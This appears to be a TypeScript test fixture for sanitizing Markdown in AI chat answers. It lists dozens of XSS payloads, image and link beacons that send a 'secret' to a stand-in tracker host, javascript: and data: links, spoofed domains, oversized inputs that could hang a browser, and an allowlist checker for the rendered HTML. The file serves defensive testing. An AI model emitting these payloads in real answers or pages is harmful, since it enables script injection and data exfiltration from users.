// Answers that try to be more than words: tricks in Markdown and around it. Where they may lead is a server of our own.

/** Whatever of an answer reached this host would have left the studio. */
export const ELSEWHERE = "https://tracker.example";

const leads = `${ELSEWHERE}/x?secret=1`;

const tricks: string[] = [
  // HTML, whole, broken and hidden
  "<script>alert(1)</script>",
  `<img src="${leads}" onerror="alert(1)">`,
  `<IMG SRC=${leads}>`,
  '<svg onload="alert(1)"><foreignObject><iframe srcdoc="<script>1</script>"></iframe></foreignObject></svg>',
  `<iframe src="${leads}"></iframe>`,
  `<object data="${leads}"></object><embed src="${leads}">`,
  `<link rel="stylesheet" href="${leads}"><style>@import "${leads}";*{background:url(${leads})}</style>`,
  `<meta http-equiv="refresh" content="0;url=${leads}"><base href="${leads}">`,
  `<form action="${leads}"><button formaction="javascript:alert(1)">go</button></form>`,
  `<video poster="${leads}" src="${leads}" autoplay></video><audio src="${leads}" autoplay>`,
  `<a href="javascript:alert(1)" onclick="alert(1)" style="position:fixed;inset:0">x</a>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></mtext></math>`,
  "<!--[if IE]><script>alert(1)</script><![endif]--><!-- --!><img src=x onerror=alert(1)> -->",
  "<![CDATA[<script>alert(1)</script>]]><?php echo 1 ?><!DOCTYPE html>",
  "<scr\nipt>alert(1)</scr\nipt><scr<script>ipt>alert(1)</script>",
  '<details open ontoggle="alert(1)"><summary>x</summary></details>',
  "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
  '<template><noscript><p title="</noscript><img src=x onerror=alert(1)>"></template>',
  // Links
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1)) [x](java\tscript:alert(1)) [x](<java script:alert(1)>)",
  "[x](&#106;avascript:alert(1)) [x](javascript&colon;alert(1)) [x](\\javascript:alert(1))",
  "[x](\u0001javascript:alert(1)) [x]( javascript:alert(1)) [x](\u00a0javascript:alert(1))",
  "[x](data:text/html,<script>alert(1)</script>) [x](data:text/html;base64,PHNjcmlwdD4=)",
  "[x](vbscript:msgbox(1)) [x](file:///etc/passwd) [x](blob:https://x/1) [x](filesystem:x) [x](view-source:x)",
  "[x](//tracker.example/x) [x](\\\\tracker.example) [x](/api/v1/keys) [x](?q) [x](#x) [x](ask)",
  `[x](${leads} "title\\" onmouseover=\\"alert(1)") [x](${leads} 'onfocus=alert(1)')`,
  `[x](https://good.example@tracker.example/) [good.example](${leads}) [https://good.example](${leads})`,
  "[x](https://xn--80ak6aa92e.com/) [x](https://аррӏе.com/) [\u202emoc.doog](https://tracker.example)",
  "[x](ssh://a) [x](tel:1) [x](sms:1) [x](intent://a) [x](ms-word:ofe|u|https://x) [x](chrome://settings)",
  "[x](https://) [x](http://[) [x](https://%00/) [x](http://a b) [x](https://x:99999/)",
  "[x](mailto:a@b.example?body=secret&attach=/etc/passwd) <mailto:a@b.example>",
  "<javascript:alert(1)> <https://tracker.example/?a=<script>> <data:text/html,x> <x@y.example>",
  "javascript:alert(1) www.tracker.example/\"onmouseover=alert(1) https://tracker.example/'><script>",
  `[x][1] [x][] [1]\n\n[1]: javascript:alert(1) "t"\n[x]: ${leads}`,
  `[![x](${leads})](javascript:alert(1))`,
  "[[[x](javascript:alert(1))](data:,x)](vbscript:x)",
  '[x](javascript:alert(1)"><img src=x onerror=alert(1)>)',
  "[<img src=x onerror=alert(1)>](https://tracker.example) [**<b onclick=alert(1)>**](https://tracker.example)",
  // Pictures
  `![x](${leads}) ![](${leads}) ![x](<${leads}>)`,
  `![x][p]\n\n[p]: ${leads}`,
  `![p][] ![p]\n\n[p]:\n  ${leads}\n  "t"`,
  '![x](data:image/svg+xml,<svg onload=alert(1)>) ![x](javascript:alert(1)) !["onerror=alert(1)](x)',
  `![${"a".repeat(200)}](//tracker.example/${"b".repeat(200)}.png)`,
  "![x](/api/v1/files/0192f1c0-0000-7000-8000-000000000000/content) ![x](/s/token) ![x](blob:x)",
  // Footnotes, tables, tasks, code
  `[^1] [^<img src=x onerror=alert(1)>]\n\n[^1]: ![x](${leads}) <script>alert(1)</script> [x](javascript:alert(1))`,
  "[^__proto__] [^constructor]\n\n[^__proto__]: x\n[^constructor]: [x](javascript:1)",
  `| <script>1</script> | ![x](${leads}) |\n|:-:|--:|\n| [x](javascript:1) | <img src=x onerror=1> |`,
  "- [x] <input onfocus=alert(1) autofocus>\n- [ ] [x](javascript:1)\n1. <script>1</script>",
  '```html onload=alert(1) "><script>alert(1)</script>\n<script>alert(1)</script>\n```',
  '```mermaid\ngraph TD; A["<img src=x onerror=alert(1)>"] --> B; click A "javascript:alert(1)"\n```',
  '```vega-lite\n{"data": {"url": "https://tracker.example"}}\n```\n\n~~~svg\n<svg onload=alert(1)>\n~~~',
  "$$\\href{javascript:alert(1)}{x} \\includegraphics{https://tracker.example/x} \\htmlData{a=1}{x}$$ $\\url{javascript:1}$",
  "`<script>alert(1)</script>` ``` `<img src=x onerror=alert(1)>` ```",
  "# <script>alert(1)</script>\n\nx\n===\n## [x](javascript:1) {#id onclick=alert(1)}",
  "> <script>alert(1)</script>\n> > ![x](https://tracker.example/x)\n> > > [x](javascript:1)",
  ":smile: @ada #1 <!-- @import --> {{constructor.constructor('alert(1)')()}} #{alert(1)} <%= 1 %> {% raw %}",
  "\u0000<script>\u0000alert(1)</script>\ud800 \u2028 \ufeff \u202e<img src=x onerror=alert(1)>",
  "<script\u0000>alert(1)</script> <\u0000img src=x> <img/src=x/onerror=alert(1)>",
  '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script> <isindex action=javascript:1>',
  "---\ntitle: <script>alert(1)</script>\nlayout: ../../etc/passwd\n---\n\nx<br onclick=alert(1)>y",
];

const quoted = (text: string) => text.replaceAll("\n", "\n> ");
/** The same trick where it might be looked at less closely. */
const wrappers: ((text: string) => string)[] = [
  (text) => text,
  (text) => `> ${quoted(text)}`,
  (text) => `- ${text.replaceAll("\n", "\n  ")}`,
  (text) => `**a ${text}`,
  (text) => `| a |\n|---|\n| ${text.replaceAll("\n", " ")} |`,
  (text) => `[a ${text}](https://tracker.example)`,
  (text) => `[^a]\n\n[^a]: ${text.replaceAll("\n", "\n    ")}`,
];

/** Too much of one thing: each would stop a page, or end it, if it were drawn. */
export const heaps: Record<string, string> = {
  "quotes in quotes": `${"> ".repeat(3000)}x`,
  "quotes without spaces": `${">".repeat(20_000)}x`,
  "lists in lists": `${"- ".repeat(3000)}x`,
  "numbers in numbers": `${"1. ".repeat(3000)}x`,
  "an indented list": Array.from({ length: 1000 }, (_, level) => `${" ".repeat(level * 2)}- x`).join("\n"),
  "stars around stars": `${"*".repeat(5000)}a${"*".repeat(5000)}`,
  "crossed emphasis": "*a_ ".repeat(20_000),
  "struck out": "~~a".repeat(20_000),
  "a table of 90,000 cells": `|${"a|".repeat(300)}\n|${"-|".repeat(300)}\n${`|${"b|".repeat(300)}\n`.repeat(300)}`,
  "two million letters": "word ".repeat(400_000),
  "open brackets": "[".repeat(50_000),
  "open pictures": "![".repeat(40_000),
  "links in links": "[a](".repeat(20_000),
  "addresses in a row": "http://a".repeat(10_000),
  "mail addresses": "a@".repeat(40_000),
  "comments that don't end": "<!--".repeat(20_000),
  "tags that don't end": "<a ".repeat(30_000),
};

/** Every trick, by itself and inside others. */
export const allTricks = (): string[] => tricks.flatMap((trick) => wrappers.map((wrap) => wrap(trick)));
export const plainTricks: readonly string[] = tricks;

const ELEMENTS = new Set(
  "div p h3 h4 h5 h6 ul ol li pre code blockquote table thead tbody tr th td a span em strong del br hr input sup section".split(
    " ",
  ),
);
const ATTRIBUTES: Record<string, RegExp> = {
  class: /^[\w\s[\].:/-]*$/,
  href: /^(https?|mailto):[^\s]/,
  target: /^_blank$/,
  rel: /^noopener noreferrer nofollow$/,
  style: /^text-align:(left|center|right)$/,
  start: /^\d+$/,
  type: /^checkbox$/,
  checked: /^$/,
  disabled: /^$/,
  id: /^user-content-/,
};
/** What footnotes and tasks bring along; none of it does anything. */
const HARMLESS = /^(data-footnote\w*|aria-[\w-]+|dir)$/;

/** What is wrong with drawn Markdown, as React writes it: every element, every attribute, every address. */
export function faultsOfMarkup(html: string): string[] {
  const faults: string[] = [];
  for (const [, name = "", attributes = ""] of html.matchAll(/<([^\s/>]+)((?:\s[^>"]*(?:"[^"]*")?)*)\/?>/g)) {
    if (!ELEMENTS.has(name)) faults.push(`it drew <${name}>`);
    for (const [, attribute = "", value = ""] of attributes.matchAll(/([^\s=]+)="([^"]*)"/g)) {
      const allowed = ATTRIBUTES[attribute];
      if (allowed ? !allowed.test(value) : !HARMLESS.test(attribute)) faults.push(`it drew ${attribute}="${value}"`);
    }
  }
  return faults;
}
